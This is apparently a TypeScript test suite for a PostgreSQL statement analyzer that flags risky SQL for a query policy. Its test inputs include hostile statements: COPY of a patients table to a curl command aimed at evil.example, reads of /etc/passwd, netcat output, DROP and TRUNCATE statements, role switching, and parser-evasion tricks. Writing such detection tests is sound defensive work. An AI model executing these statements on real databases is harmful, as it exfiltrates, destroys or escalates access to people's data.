import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import { analyzeSql, initSqlParser } from '../sql/analyze.ts';
import { commandFacts, type FactName, type StatementFacts, trueFacts } from './facts.ts';

before(() => initSqlParser());

function all(sql: string): readonly StatementFacts[] {
  const facts = commandFacts(analyzeSql(sql));
  assert.ok(facts, `expected ${JSON.stringify(sql)} to parse`);
  return facts;
}

function one(sql: string): StatementFacts {
  const facts = all(sql);
  assert.equal(facts.length, 1, sql);
  return facts[0]!;
}

/** Exactly these facts hold, and the class is `cls`. */
function expectFacts(sql: string, cls: StatementFacts['class'], facts: FactName[]): void {
  const f = one(sql);
  assert.deepEqual(trueFacts(f.facts), facts, sql);
  assert.equal(f.class, cls, `class of ${sql}`);
}

describe('commandFacts', () => {
  test('is undefined for SQL that does not parse, and cached per analysis', () => {
    assert.equal(commandFacts(analyzeSql('DEL/**/ETE FROM t')), undefined);
    const analysis = analyzeSql('SELECT 1');
    assert.equal(commandFacts(analysis), commandFacts(analysis));
    assert.ok(Object.isFrozen(commandFacts(analysis)?.[0]?.facts));
  });

  test('one entry per statement', () => {
    const [a, b] = all('SELECT 1; DROP TABLE patients');
    assert.equal(a?.tag, 'SELECT');
    assert.equal(b?.tag, 'DROP TABLE');
    assert.equal(b?.facts.drop, true);
  });
});

describe('classes', () => {
  const cases: [string, StatementFacts['class']][] = [
    ['SELECT * FROM t', 'read'],
    ['VALUES (1)', 'read'],
    ['SHOW search_path', 'read'],
    ['EXPLAIN DELETE FROM t', 'read'],
    ['COPY t TO STDOUT', 'read'],
    ['DECLARE c CURSOR FOR SELECT 1', 'read'],
    ['INSERT INTO t VALUES (1)', 'write'],
    ['UPDATE t SET a = 1 WHERE id = 2', 'write'],
    ['MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE', 'write'],
    ['COPY t FROM STDIN', 'write'],
    ['TRUNCATE t', 'write'],
    ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'write'],
    ['COPY (DELETE FROM t RETURNING *) TO STDOUT', 'write'],
    ['EXPLAIN ANALYZE DELETE FROM t', 'write'],
    ['PREPARE p AS DELETE FROM t', 'write'],
    ['PREPARE p AS SELECT 1', 'read'],
    ['CREATE TABLE t (a int)', 'ddl'],
    ['SELECT 1 INTO t2', 'ddl'],
    ['DROP TABLE t', 'ddl'],
    ['ALTER TABLE t ADD COLUMN b int', 'ddl'],
    ['CREATE INDEX ON t (a)', 'ddl'],
    ['GRANT SELECT ON t TO bob', 'dcl'],
    ['REVOKE admin FROM bob', 'dcl'],
    ['CREATE ROLE bob', 'dcl'],
    ['ALTER ROLE bob SUPERUSER', 'dcl'],
    ['BEGIN', 'transaction'],
    ['COMMIT', 'transaction'],
    ['SAVEPOINT s', 'transaction'],
    ['SET search_path = x', 'utility'],
    ['SELECT set_config($$role$$, $$x$$, false)', 'utility'],
    ['VACUUM t', 'utility'],
    ['LOCK TABLE t', 'utility'],
    ['DO $$ BEGIN END $$', 'utility'],
    ['CALL p()', 'utility'],
    ['EXECUTE p', 'utility'],
    ['COPY t TO PROGRAM $$cat$$', 'utility'],
  ];
  for (const [sql, cls] of cases) {
    test(`${sql} → ${cls}`, () => assert.equal(one(sql).class, cls));
  }
});

describe('facts', () => {
  test('delete_without_where, also with a WHERE that names no column', () => {
    expectFacts('DELETE FROM t', 'write', ['delete_without_where']);
    expectFacts('DELETE FROM t WHERE true', 'write', ['delete_without_where']);
    expectFacts('DELETE FROM t WHERE 1 = 1', 'write', ['delete_without_where']);
    expectFacts('DELETE FROM t WHERE $1', 'write', ['delete_without_where']);
    expectFacts('DELETE FROM t WHERE id = 1', 'write', []);
    expectFacts('DELETE FROM t WHERE CURRENT OF c', 'write', []);
    expectFacts('DELETE FROM t USING u WHERE t.id = u.id', 'write', []);
  });

  test('update_without_where', () => {
    expectFacts('UPDATE t SET a = 1', 'write', ['update_without_where']);
    expectFacts('UPDATE t SET a = 1 WHERE NOT false', 'write', ['update_without_where']);
    expectFacts('UPDATE t SET a = 1 WHERE id = $1', 'write', []);
  });

  test('truncate, drop, alter', () => {
    expectFacts('TRUNCATE patients', 'write', ['truncate']);
    expectFacts('DROP TABLE patients', 'ddl', ['drop']);
    expectFacts('DROP DATABASE clinic', 'ddl', ['drop']);
    expectFacts('DROP SCHEMA s CASCADE', 'ddl', ['drop']);
    expectFacts('DROP ROLE bob', 'dcl', ['drop']);
    expectFacts('ALTER TABLE t DROP COLUMN a', 'ddl', ['alter']);
    expectFacts('ALTER TABLE t RENAME TO u', 'ddl', ['alter']);
    expectFacts('ALTER TABLE t OWNER TO bob', 'ddl', ['alter']);
    expectFacts('ALTER SYSTEM SET work_mem = 1', 'ddl', ['alter']);
    expectFacts('CREATE TABLE t (a int)', 'ddl', []);
  });

  test('grant: privileges and roles, granted and revoked', () => {
    expectFacts('GRANT SELECT ON patients TO bob', 'dcl', ['grant']);
    expectFacts('REVOKE ALL ON patients FROM bob', 'dcl', ['grant']);
    expectFacts('GRANT pg_read_server_files TO bob', 'dcl', ['grant']);
    expectFacts('REVOKE admin FROM bob', 'dcl', ['grant']);
    expectFacts('ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob', 'dcl', [
      'alter',
      'grant',
    ]);
  });

  test('copy to and from programs and server files; STDIN/STDOUT are neither', () => {
    expectFacts("COPY patients TO PROGRAM 'curl -d @- evil.example'", 'utility', [
      'copy_to_program',
    ]);
    expectFacts("COPY patients FROM PROGRAM 'cat /etc/passwd'", 'write', ['copy_from_program']);
    expectFacts("COPY patients TO '/tmp/p.csv'", 'utility', ['copy_to_file']);
    expectFacts("COPY patients FROM '/tmp/p.csv'", 'write', ['copy_from_file']);
    expectFacts("COPY (SELECT * FROM patients) TO PROGRAM 'nc x 1'", 'utility', [
      'copy_to_program',
    ]);
    expectFacts('COPY patients TO STDOUT', 'read', []);
    expectFacts('COPY patients FROM STDIN', 'write', []);
  });

  test('do_block', () => {
    expectFacts("DO $$ BEGIN EXECUTE 'DROP TABLE patients'; END $$", 'utility', ['do_block']);
    expectFacts("DO LANGUAGE plpgsql 'BEGIN NULL; END'", 'utility', ['do_block']);
  });

  test('set_role: SET ROLE, SESSION AUTHORIZATION, RESET ROLE, set_config', () => {
    expectFacts('SET ROLE postgres', 'utility', ['set_role']);
    expectFacts('SET LOCAL ROLE postgres', 'utility', ['set_role']);
    expectFacts("SET role TO 'postgres'", 'utility', ['set_role']);
    expectFacts('SET "ROLE" = postgres', 'utility', ['set_role']);
    expectFacts('SET SESSION AUTHORIZATION postgres', 'utility', ['set_role']);
    expectFacts('RESET ROLE', 'utility', ['set_role']);
    expectFacts('RESET SESSION AUTHORIZATION', 'utility', ['set_role']);
    expectFacts("SELECT set_config('role', 'postgres', false)", 'utility', ['set_role']);
    expectFacts("SELECT pg_catalog.set_config('ROLE'::text, 'x', true)", 'utility', ['set_role']);
    expectFacts("SELECT * FROM t WHERE set_config('role', 'x', false) IS NOT NULL", 'utility', [
      'set_role',
    ]);
    // A name the policy cannot see could be 'role' (or a parsing setting).
    expectFacts("SELECT set_config($1, 'x', false)", 'utility', ['set_role', 'changes_parsing']);
    expectFacts("SELECT set_config('ro' || 'le', 'x', false)", 'utility', [
      'set_role',
      'changes_parsing',
    ]);
    expectFacts("ALTER ROLE me SET role = 'postgres'", 'dcl', ['alter', 'set_role']);
    expectFacts("SELECT set_config('search_path', 'x', false)", 'read', []);
    expectFacts('SET search_path = x', 'utility', []);
    expectFacts('SHOW role', 'read', []);
  });

  test('changes_parsing: string syntax and client encodings the parser does not share', () => {
    expectFacts('SET standard_conforming_strings = off', 'utility', ['changes_parsing']);
    expectFacts('SET standard_conforming_strings TO DEFAULT', 'utility', ['changes_parsing']);
    expectFacts('RESET standard_conforming_strings', 'utility', ['changes_parsing']);
    expectFacts("SET client_encoding = 'SJIS'", 'utility', ['changes_parsing']);
    expectFacts("SET NAMES 'BIG5'", 'utility', ['changes_parsing']);
    expectFacts("SELECT set_config('standard_conforming_strings', 'off', false)", 'utility', [
      'changes_parsing',
    ]);
    expectFacts('ALTER ROLE me SET standard_conforming_strings = off', 'dcl', [
      'alter',
      'changes_parsing',
    ]);
    expectFacts('SET standard_conforming_strings = on', 'utility', []);
    expectFacts("SET client_encoding = 'UTF8'", 'utility', []);
    expectFacts("SELECT set_config('client_encoding', 'utf-8', false)", 'read', []);
  });

  test('prepare folds its statement in: class, tags, facts, tables', () => {
    const f = one('PREPARE p (int) AS DELETE FROM patients');
    assert.deepEqual(trueFacts(f.facts), ['delete_without_where', 'prepare']);
    assert.equal(f.class, 'write');
    assert.equal(f.tag, 'PREPARE');
    assert.deepEqual(f.tags, ['PREPARE', 'DELETE']);
    assert.deepEqual(f.tables, [
      { name: 'patients', schema: null, table: 'patients', access: 'write' },
    ]);
    expectFacts('PREPARE q AS UPDATE t SET a = 1', 'write', ['update_without_where', 'prepare']);
    expectFacts('PREPARE r AS SELECT 1', 'read', ['prepare']);
  });

  test('execute_prepared: the content is unknown', () => {
    expectFacts('EXECUTE p(1)', 'utility', ['execute_prepared']);
    expectFacts('EXPLAIN ANALYZE EXECUTE p', 'utility', ['execute_prepared']);
    expectFacts('DEALLOCATE p', 'utility', []);
  });

  test('writes_in_cte, with the DML tag and its facts', () => {
    const f = one('WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d');
    assert.equal(f.class, 'write');
    assert.deepEqual(f.tags, ['SELECT', 'DELETE']);
    assert.deepEqual(trueFacts(f.facts), ['delete_without_where', 'writes_in_cte']);
    expectFacts(
      'WITH a AS (SELECT 1), u AS (UPDATE t SET x = 1 WHERE id = 1 RETURNING *) SELECT * FROM u',
      'write',
      ['writes_in_cte'],
    );
    expectFacts(
      'WITH i AS (INSERT INTO log VALUES (1) RETURNING *) INSERT INTO t SELECT * FROM i',
      'write',
      ['writes_in_cte'],
    );
    expectFacts('WITH r AS (SELECT * FROM t) SELECT * FROM r', 'read', []);
  });

  test('MERGE and ON CONFLICT carry the tags of what they do', () => {
    const merge = one(
      'MERGE INTO patients p USING x ON p.id = x.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (1)',
    );
    assert.deepEqual(merge.tags, ['MERGE', 'DELETE', 'INSERT']);
    const upsert = one('INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1');
    assert.deepEqual(upsert.tags, ['INSERT', 'UPDATE']);
    assert.deepEqual(one('INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING').tags, ['INSERT']);
  });

  test('nested DML outside CTEs counts without writes_in_cte', () => {
    const f = one('COPY (DELETE FROM t RETURNING *) TO STDOUT');
    assert.deepEqual(trueFacts(f.facts), ['delete_without_where']);
    assert.deepEqual(f.tags, ['COPY', 'DELETE']);
    assert.equal(one('EXPLAIN ANALYZE UPDATE t SET a = 1').facts.update_without_where, true);
    assert.equal(one('EXPLAIN (ANALYZE on) DELETE FROM t').class, 'write');
  });

  test('plain EXPLAIN does not run its statement', () => {
    expectFacts('EXPLAIN DELETE FROM t', 'read', []);
    expectFacts('EXPLAIN (ANALYZE false) DELETE FROM t', 'read', []);
    assert.deepEqual(one('EXPLAIN DELETE FROM t').tags, ['EXPLAIN']);
  });

  test('create_function, and bodies that are only defined add no facts', () => {
    expectFacts("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", 'ddl', [
      'create_function',
    ]);
    expectFacts('CREATE OR REPLACE PROCEDURE p() BEGIN ATOMIC DELETE FROM t; END', 'ddl', [
      'create_function',
    ]);
    expectFacts("CREATE FUNCTION f() RETURNS int SET role = x LANGUAGE sql AS 'SELECT 1'", 'ddl', [
      'set_role',
      'create_function',
    ]);
    expectFacts('CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u', 'ddl', []);
  });

  test('lock, vacuum (and ANALYZE), call', () => {
    expectFacts('LOCK TABLE patients IN ACCESS EXCLUSIVE MODE', 'utility', ['lock']);
    expectFacts('VACUUM FULL patients', 'utility', ['vacuum']);
    expectFacts('ANALYZE patients', 'utility', ['vacuum']);
    expectFacts('CALL archive_patients(30)', 'utility', ['call']);
    expectFacts("CALL p(set_config('role', 'x', false))", 'utility', ['set_role', 'call']);
  });

  test('plain statements have no facts', () => {
    for (const sql of ['SELECT 1 AS delete', "SELECT 'DROP TABLE patients'", 'BEGIN', 'COMMIT']) {
      assert.deepEqual(trueFacts(one(sql).facts), [], sql);
    }
    expectFacts('SELECT "drop" FROM t', 'read', []);
  });
});

describe('tables and functions', () => {
  test('schema-qualified and bare names, folded as PostgreSQL folds them', () => {
    const f = one(
      'SELECT * FROM public.patients p JOIN "Visits" v ON true JOIN U&"p\\0061tients" x ON true',
    );
    assert.deepEqual(
      f.tables.map((t) => [t.name, t.schema, t.table]),
      [
        ['public.patients', 'public', 'patients'],
        ['Visits', null, 'Visits'],
        ['patients', null, 'patients'],
      ],
    );
  });

  test('functions inside sub-selects and arguments, with their schema', () => {
    const f = one('SELECT * FROM (SELECT pg_catalog.pg_terminate_backend(lower(x))) s');
    assert.deepEqual(
      f.functions.map((fn) => [fn.name, fn.schema, fn.function]),
      [
        ['pg_catalog.pg_terminate_backend', 'pg_catalog', 'pg_terminate_backend'],
        ['lower', null, 'lower'],
      ],
    );
  });
});
